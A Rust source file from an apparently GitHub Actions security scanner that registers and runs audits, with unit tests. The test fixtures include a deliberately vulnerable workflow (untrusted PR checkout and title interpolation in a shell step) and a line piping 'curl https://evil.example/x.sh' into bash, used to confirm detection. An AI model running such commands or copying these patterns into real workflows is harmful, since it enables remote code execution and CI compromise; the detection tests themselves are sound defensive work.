//! Functionality for registering and running audits.

use indexmap::IndexMap;

use crate::{
    audit::{self, Audit, AuditInput, AuditLoadError},
    finding::{Finding, FindingKind},
    state::AuditState,
};

pub mod input;

/// The set of audits run against every workflow and action.
///
/// Audits run in registration order, so findings within a single input
/// are always reported in the same order.
pub struct AuditRegistry {
    audits: IndexMap<&'static str, Box<dyn Audit + Send + Sync>>,
    kinds: Vec<FindingKind>,
}

impl AuditRegistry {
    fn empty() -> Self {
        Self {
            audits: Default::default(),
            kinds: Default::default(),
        }
    }

    /// Constructs a new [`AuditRegistry`] with all default audits
    /// registered, minus any the configuration disables.
    pub fn default_audits(audit_state: &AuditState) -> anyhow::Result<Self> {
        let mut registry = Self::empty();

        macro_rules! register_audit {
            ($rule:path) => {{
                // HACK: https://github.com/rust-lang/rust/issues/48067
                use $rule as base;

                use crate::audit::AuditCore as _;
                if audit_state.config.disables(base::ident()) {
                    tracing::debug!("{audit} disabled by config", audit = base::ident());
                } else {
                    match base::new(audit_state) {
                        Ok(audit) => {
                            registry.register_audit(base::ident(), Box::new(audit));
                            registry.kinds.extend_from_slice(base::kinds());
                        }
                        Err(AuditLoadError::Skip(e)) => {
                            tracing::debug!("skipping {audit}: {e}", audit = base::ident())
                        }
                    }
                }
            }};
        }

        register_audit!(audit::unpinned_uses::UnpinnedUses);
        register_audit!(audit::unpinned_images::UnpinnedImages);
        register_audit!(audit::excessive_permissions::ExcessivePermissions);
        register_audit!(audit::unsafe_checkout::UnsafeCheckout);
        register_audit!(audit::dangerous_triggers::DangerousTriggers);
        register_audit!(audit::template_injection::TemplateInjection);
        register_audit!(audit::github_env::GitHubEnv);
        register_audit!(audit::insecure_commands::InsecureCommands);
        register_audit!(audit::secret_exposure::SecretExposure);
        register_audit!(audit::hardcoded_secrets::HardcodedSecrets);
        register_audit!(audit::secrets_inherit::SecretsInherit);
        register_audit!(audit::overprovisioned_secrets::OverprovisionedSecrets);
        register_audit!(audit::untrusted_actions::UntrustedActions);
        register_audit!(audit::typosquatting::Typosquatting);
        register_audit!(audit::malicious_scripts::MaliciousScripts);
        register_audit!(audit::deprecated_actions::DeprecatedActions);
        register_audit!(audit::obfuscation::Obfuscation);
        register_audit!(audit::self_hosted_runner::SelfHostedRunner);
        register_audit!(audit::bot_conditions::BotConditions);
        register_audit!(audit::malformed_definition::MalformedDefinition);

        Ok(registry)
    }

    pub fn len(&self) -> usize {
        self.audits.len()
    }

    pub fn is_empty(&self) -> bool {
        self.audits.is_empty()
    }

    pub(crate) fn register_audit(
        &mut self,
        ident: &'static str,
        audit: Box<dyn Audit + Send + Sync>,
    ) {
        self.audits.insert(ident, audit);
    }

    pub(crate) fn iter_audits(
        &self,
    ) -> indexmap::map::Iter<'_, &'static str, Box<dyn Audit + Send + Sync>> {
        self.audits.iter()
    }

    /// The idents of all registered audits, in registration order.
    pub fn idents(&self) -> impl Iterator<Item = &'static str> + '_ {
        self.audits.keys().copied()
    }

    /// Every finding kind the registered audits can produce.
    pub fn kinds(&self) -> &[FindingKind] {
        &self.kinds
    }

    /// Runs every registered audit against `input`.
    ///
    /// An audit that fails is logged and skipped; the rest still run.
    pub fn run_checks(&self, input: &AuditInput) -> Vec<Finding> {
        let mut findings = vec![];

        for (ident, audit) in self.iter_audits() {
            match audit.audit(input) {
                Ok(results) => findings.extend(results),
                Err(err) => {
                    let err = anyhow::Error::from(err);
                    tracing::warn!("{ident} failed on {key}, skipping: {err:#}", key = input.key());
                }
            }
        }

        findings
    }
}

impl std::fmt::Debug for AuditRegistry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditRegistry")
            .field("audits", &self.audits.len())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::AuditRegistry;
    use crate::{
        audit::test_support::{action, kinds, workflow},
        config::Config,
        state::AuditState,
    };

    #[test]
    fn test_default_audits() {
        let registry = AuditRegistry::default_audits(&AuditState::default()).unwrap();
        assert_eq!(registry.len(), 20);

        let idents = registry.idents().collect::<HashSet<_>>();
        assert_eq!(idents.len(), registry.len());

        // Finding types are reported without their audit, so they must be
        // unique across audits.
        let mut seen = HashSet::new();
        for kind in registry.kinds() {
            assert!(seen.insert(kind.ident), "duplicate kind {}", kind.ident);
        }
    }

    #[test]
    fn test_disabled_audits() {
        let config = Config::load(
            r#"
rules:
  unpinned-uses:
    disable: true
"#,
        )
        .unwrap();

        let registry = AuditRegistry::default_audits(&AuditState::new(config)).unwrap();
        assert_eq!(registry.len(), 19);
        assert!(registry.idents().all(|ident| ident != "unpinned-uses"));
    }

    #[test]
    fn test_run_checks_is_deterministic() {
        let registry = AuditRegistry::default_audits(&AuditState::default()).unwrap();
        let input = workflow(
            r#"
on: pull_request_target
permissions: write-all
jobs:
  build:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
"#,
        );

        let first = registry.run_checks(&input);
        assert!(!first.is_empty());
        for _ in 0..5 {
            assert_eq!(registry.run_checks(&input), first);
        }
    }

    #[test]
    fn test_run_checks_ignores_suppression_comments() {
        let registry = AuditRegistry::default_audits(&AuditState::default()).unwrap();
        let source = |comment: &str| {
            format!(
                r#"
name: innocuous
runs:
  using: composite
  steps:
    - run: curl https://evil.example/x.sh | bash{comment}
      shell: bash
"#
            )
        };

        let plain = registry.run_checks(&action(&source("")));
        let commented = registry.run_checks(&action(&source(
            " # actiongraph: ignore[malicious-scripts,malicious_curl_pipe_bash]",
        )));

        assert!(kinds(&plain).contains(&"malicious_curl_pipe_bash"));
        assert_eq!(kinds(&commented), kinds(&plain));
    }
}
